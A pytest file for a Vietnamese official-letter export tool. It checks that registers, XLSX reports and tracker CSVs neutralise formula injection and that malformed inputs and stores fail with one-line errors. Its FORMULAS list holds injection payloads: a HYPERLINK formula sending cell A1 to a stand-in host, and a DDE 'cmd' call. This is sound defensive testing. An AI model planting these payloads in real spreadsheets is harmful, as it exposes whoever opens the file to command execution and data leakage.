"""No letter can turn an export against its reader or sink it, and a bad input is one line.

Every hostile value here is made by the test (no stored bombs): a recipient,
a Nơi nhận entry, a `Lưu` line, a unit and a directive that start like a
spreadsheet formula; an ESC in a subject; a symbol longer than a file name
may be; `$\\frac{a}{$` in a unit name (matplotlib mathtext); a date no
calendar has. Then malformed `--organ-ids` and `--done` files, and stores
that are locked, corrupt, empty, foreign or a folder, at the command line.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from conftest import SEED_000, SEED_001
from lxml import etree
from typer.testing import CliRunner

import congvan
from congvan.models.records import Deadline, DistributionEntry, DocumentNumber, PartialDate, Recipient
from congvan.pipeline.cli import app
from congvan.pipeline.exports import edxml, gitlab, jira, registers, source, tasks, todoist
from congvan.pipeline.exports import handling_report as hr
from congvan.pipeline.exports.cells import file_stem, plot_text, sheet_text

FORMULAS = ['=HYPERLINK("http://example.invalid/?s="&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
            "\tTAB=1", "\r=1+1"]


@pytest.fixture(scope="module")
def seed() -> congvan.models.Letter:
    return congvan.parse(str(SEED_001))


def hostile(letter, formula: str = FORMULAS[0]):
    """The seed with formula-like recipients, distribution, `Lưu` line, units and directive text."""
    items = tuple(i.model_copy(update={"unit": f, "text": f + " triển khai", "unit_key": f"u{k}"})
                  for k, (i, f) in enumerate(zip(letter.action_items, FORMULAS * 3)))
    return letter.model_copy(update={
        "recipients": (Recipient(name=formula), *letter.recipients),
        "distribution": (DistributionEntry(name=FORMULAS[1]), DistributionEntry(name="Lưu: " + FORMULAS[2])),
        "subject": FORMULAS[3], "issuer": FORMULAS[4].strip(), "action_items": items})


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_cells_helper() -> None:
    for f in FORMULAS:
        assert sheet_text(f) == "'" + f and sheet_text("Sở Y tế") == "Sở Y tế" and sheet_text(3) == 3
    assert sheet_text("a\x1bb") == "ab"
    assert plot_text("$\\frac{a}{$") == "\\$\\frac{a}{\\$"
    assert len(file_stem("QĐ-" * 200).encode()) <= 120


def test_registers_write_formulas_as_text(seed, tmp_path: Path) -> None:
    bad = hostile(seed)
    for kind in registers.KINDS:
        reg = registers.build_register(kind, [bad, seed])
        _no_formula(_csv_cells(registers.to_csv(reg)))
        path = registers.write_xlsx(reg, tmp_path / f"{kind}.xlsx")
        ws = openpyxl.load_workbook(path)["Sổ"]
        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert not [c.coordinate for c in cells if c.data_type == "f"]          # no live formula anywhere
        texts = {c.value for c in cells}
        if kind == "di":
            assert any(FORMULAS[1] in t for t in texts) and any(FORMULAS[2] in t for t in texts)
        else:
            assert FORMULAS[4].strip() in texts
        for c in cells:
            if c.value.startswith(("=", "+", "-", "@")):
                assert c.quotePrefix, c.coordinate        # shown as text, as Excel's own leading quote does


def test_handling_report_xlsx_and_tracker_csvs_hold_no_formula(seed, tmp_path: Path) -> None:
    bad = hostile(seed)
    items, by_id = source.action_items([bad])
    rep = hr.build_report(items, dt.date(2030, 1, 1))
    path = hr.write_xlsx(rep, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(path)
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert {r.unit for r in rep.rows} <= {c.value for c in wb["Báo cáo"]["A"]}
    for data in (jira.to_jira(items, by_id), gitlab.to_gitlab(items, by_id), *todoist.to_todoist(items, by_id),
                 tasks.to_csv(items)):
        cells = _csv_cells(data)
        _no_formula(cells)
        assert any(c == "'" + FORMULAS[0] for c in cells) or any(c.startswith("'") for c in cells)


def test_one_letter_cannot_sink_an_export(seed, tmp_path: Path) -> None:
    ctrl = seed.model_copy(update={"id": "ctrl", "subject": "Về việc\x1b[31m kiểm tra\x00 định kỳ\x0b",
                                   "recipients": (Recipient(name="Sở\x07 Tài chính"),)})
    long_symbol = seed.model_copy(update={"id": "long", "number": DocumentNumber(
        number="12", symbol="QĐ-UBND-" + "KHCN" * 120, raw="Số: 12/QĐ-UBND...")})
    broken_item = seed.action_items[0].model_copy(update={
        "id": "broken", "deadline": Deadline(date=PartialDate(year=2024, month=13), text="tháng 13/2024")})
    broken = seed.model_copy(update={"id": "broken-letter", "issued": PartialDate(year=2024, month=13, day=40),
                                     "action_items": (broken_item,)})
    letters = [ctrl, long_symbol, broken, seed]

    skipped: list[str] = []
    written = edxml.write_all(letters, tmp_path / "env", None, skipped)
    assert len(written) == 3 and len(skipped) == 1 and "broken-letter" in skipped[0]
    for p in written:
        assert len(p.name.encode()) <= 255
        etree.parse(str(p))                                   # well-formed XML
    back = {edxml.read_envelope(p.read_bytes())["letter_id"]: edxml.read_envelope(p.read_bytes()) for p in written}
    assert back["ctrl"]["subject"] == "Về việc[31m kiểm tra định kỳ" and back["ctrl"]["to"] == ["Sở Tài chính"]

    reg = registers.build_register("den", letters)
    assert len(reg.rows) == 3 and len(reg.skipped) == 1 and "broken-letter" in reg.skipped[0]
    ws = openpyxl.load_workbook(registers.write_xlsx(reg, tmp_path / "den.xlsx"))["Sổ"]
    assert any("kiểm tra định kỳ" in str(c.value) for row in ws.iter_rows() for c in row)

    # A unit named like mathematics draws as written; the report is whole.
    math_unit = seed.action_items[0].model_copy(update={"unit": "$\\frac{a}{$ Phòng", "unit_key": "math"})
    rep = hr.build_report([math_unit, *seed.action_items[1:]], dt.date(2030, 1, 1))
    page = hr.to_html(rep)
    assert "<svg" in page and "could not be drawn" not in page and "\\frac{a}" in page

    # Every tracker keeps the good tasks when one cannot be written.
    items, by_id = source.action_items([seed])
    items, warnings = source.sane_deadlines([broken_item, *items], {**by_id, "broken-letter": broken})
    assert "no calendar day" in warnings[0] and items[0].deadline.date is None


def _fails_in_one_line(*args: str) -> str:
    out = CliRunner().invoke(app, list(args))
    lines = [line for line in out.output.splitlines() if line.strip()]
    assert out.exit_code == 2, out.output
    assert len(lines) == 1 and lines[0].startswith("congvan: error: "), out.output
    assert "Traceback" not in out.output
    return lines[0]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from congvan.pipeline.ingest import ingest

    folder = tmp_path_factory.mktemp("in")
    (folder / SEED_000.name).write_bytes(SEED_000.read_bytes())
    store = folder.parent / "s.duckdb"
    ingest([folder], store, workers=1, log=lambda s: None)
    return store


@pytest.mark.parametrize("name, content, words", [
    ("ids.json", '["Bộ Công Thương", "000.00.00.G06"]', "JSON list"),
    ("ids.csv", "", "empty"),
    ("ids.json", '{"Bộ Công Thương": 6}', "not text"),
    ("ids.json", '{"Bộ Công Thương": ', "not JSON"),
    ("ids.csv", "Bộ Công Thương\nSở Tài chính\n", "two columns"),
])
def test_malformed_organ_ids_are_one_line(db: Path, tmp_path: Path, name: str, content: str, words: str) -> None:
    (tmp_path / name).write_text(content, encoding="utf-8")
    line = _fails_in_one_line("export", "edxml", str(db), "-o", str(tmp_path / "out"), "--organ-ids", str(tmp_path / name))
    assert "--organ-ids" in line and words in line


@pytest.mark.parametrize("content, words", [
    ('[{"status": "completed", ', "not a Taskwarrior export"),
    ("[1, 2, 3]", "not an object"),
    ('[{"status": "completed", "congvanid": "x", "end": "yesterday"}]', "not a Taskwarrior date"),
    ("task-1 15/06/2024\n", "is not a day"),
])
def test_malformed_done_files_are_one_line(db: Path, tmp_path: Path, content: str, words: str) -> None:
    (tmp_path / "done").write_text(content, encoding="utf-8")
    line = _fails_in_one_line("export", "handling-report", str(db), "-o", str(tmp_path / "r.html"),
                              "--done", str(tmp_path / "done"))
    assert "--done" in line and words in line
    (tmp_path / "bin").write_bytes(b"\xff\xfe\x00garbage")
    assert "not a text file" in _fails_in_one_line("export", "taskwarrior", str(db), "--open-only", "--done", str(tmp_path / "bin"))


def _bad_stores(tmp_path: Path) -> dict[str, tuple[Path, str]]:
    import duckdb

    corrupt = tmp_path / "corrupt.duckdb"
    corrupt.write_bytes(b"DUCK" * 5000)
    empty = tmp_path / "empty.duckdb"
    empty.touch()
    foreign = tmp_path / "foreign.duckdb"
    con = duckdb.connect(str(foreign))
    con.execute("CREATE TABLE sales (id INTEGER)")
    con.close()
    folder = tmp_path / "folder.duckdb"
    folder.mkdir()
    return {"corrupt": (corrupt, "cannot be read as a DuckDB store"), "empty": (empty, "empty file"),
            "foreign": (foreign, "not a congvan store"), "folder": (folder, "is a folder"),
            "missing": (tmp_path / "none.duckdb", "no such")}


def test_bad_stores_are_one_line_at_every_edge(tmp_path: Path) -> None:
    for name, (path, words) in _bad_stores(tmp_path).items():
        for args in (["export", "register", "den", "--db", str(path), "-o", str(tmp_path / "x.csv")],
                     ["export", "parquet", str(path), "-o", str(tmp_path / "pq")],
                     ["export", "taskwarrior", str(path)],
                     ["graph", "--db", str(path)],
                     ["tasks", str(path)]):
            line = _fails_in_one_line(*args)
            assert words in line, (name, args, line)


def test_a_locked_store_says_so(db: Path, tmp_path: Path) -> None:
    holder = subprocess.Popen([sys.executable, "-c",
                               "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); print('locked', flush=True); "
                               "time.sleep(60)", str(db)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        for args in (["export", "jira", str(db)], ["graph", "--db", str(db)]):
            line = _fails_in_one_line(*args)
            assert "in use by another process" in line, line
    finally:
        holder.kill()
        holder.wait()
    time.sleep(0.2)
